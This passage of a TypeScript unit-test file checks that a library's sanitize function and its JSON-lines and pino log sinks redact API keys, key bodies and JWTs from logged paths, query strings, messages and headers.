    key = (await kw.keys.create({ owner: 'acme' })).key;
    body = key.slice(key.lastIndexOf('_') + 1);
  });
  afterAll(() => kw.close());

  /** Events as an instance without redaction (or another source) would send them: the key in path, query and text. */
  const rawEvents = (): KeywardEvent[] => [
    { ...EVENT, path: `/docs?x-api-key=${key}&page=2` },
    { ...EVENT, path: `/docs?apiToken=${key}` },
    { ...EVENT, path: `/v1/${key}/docs` },
    { ...EVENT, type: 'request.completed', path: `/v1/docs?q=${JWT}`, status: 200 },
    { ...EVENT, type: 'anomaly.detected', path: `/v1/${key}/docs?page=1`, data: { note: `seen ${key} twice`, evidence: { url: `/x/${key}` } } },
    { ...EVENT, type: 'auth.succeeded', path: '/v1/docs', hint: 'kw_live_…a1B2' },
    { ...EVENT, type: 'access.denied', path: `/v1/${key.replace(/_/g, '%5F')}/docs` },
  ];
  const extra = () => ({ url: `/v1/${key}?x-api-key=${key}`, originalUrl: `/v1/docs?apiToken=${key}`, message: `bad key ${key}`, referer: `https://app.example/cb?jwt=${JWT}`, headers: { 'x-api-key': key, authorization: `Bearer ${JWT}`, accept: 'json' } });
  const expectClean = (text: string) => {
    for (const secret of [key, body, JWT]) expect(text).not.toContain(secret);
  };

  it('sanitize: parameter names first, then key and JWT shapes in every string, URL-like or not', () => {
    const out = sanitize({ path: `/v1/${key}/docs?x-api-key=${key}&page=2`, url: `/x?apiToken=abc&q=1`, note: `key was ${key}.`, api_token: 'opaque', hint: 'kw_live_…a1B2', jwt: JWT, list: [`/v1/${JWT}`] }) as Record<string, unknown>;
    expect(out).toEqual({
      path: '/v1/[REDACTED]/docs?x-api-key=[REDACTED]&page=2',
      url: '/x?apiToken=[REDACTED]&q=1',
      note: 'key was [REDACTED].',
      api_token: '[REDACTED]', // named like a secret
      hint: 'kw_live_…a1B2', // a hint is not a credential
      jwt: '[REDACTED]',
      list: ['/v1/[REDACTED]'],
    });
  });

  it('JSON-lines sink: none of the lines holds the key, its body or a JWT', () => {
    const out = capture();
    const sink = jsonLinesSink({ stream: out.stream });
    for (const e of rawEvents()) sink.write(e, extra());
    const lines = out.lines();
    expect(lines).toHaveLength(7);
    for (const line of lines) expectClean(JSON.stringify(line));
    expect(lines[0]).toMatchObject({ path: '/docs?x-api-key=[REDACTED]&page=2', request: { headers: { 'x-api-key': '[REDACTED]', authorization: '[REDACTED]', accept: 'json' } } });
    expect(lines[2]!.path).toBe('/v1/[REDACTED]/docs');
    expect(lines[5]!.hint).toBe('kw_live_…a1B2');
  });

  it.each(PINOS)('pino sink (real %s): the same, and credential headers and query parameters redacted as before', async (_major, pino) => {
    const out = capture();
    const sink = pinoSink({ logger: pino({ level: 'debug' }, out.stream) });
    for (const e of rawEvents()) sink.write(e, extra());
    sink.write(EVENT, EXTRA);
    await new Promise((r) => setImmediate(r));
    const lines = out.lines();
    expect(lines).toHaveLength(8);
    for (const line of lines) expectClean(JSON.stringify(line));
    expect(lines[1]!.event.path).toBe('/docs?apiToken=[REDACTED]');
    expect(lines[7]!.event.path).toBe('/docs?api_key=[REDACTED]&page=2');
    expect(lines[7]!.request).toMatchObject({ headers: { authorization: '[REDACTED]', 'x-api-key': '[REDACTED]', 'X-Custom-Token': '[REDACTED]' }, url: '/x?token=[REDACTED]&q=1' });
    await sink.close();
  });
});
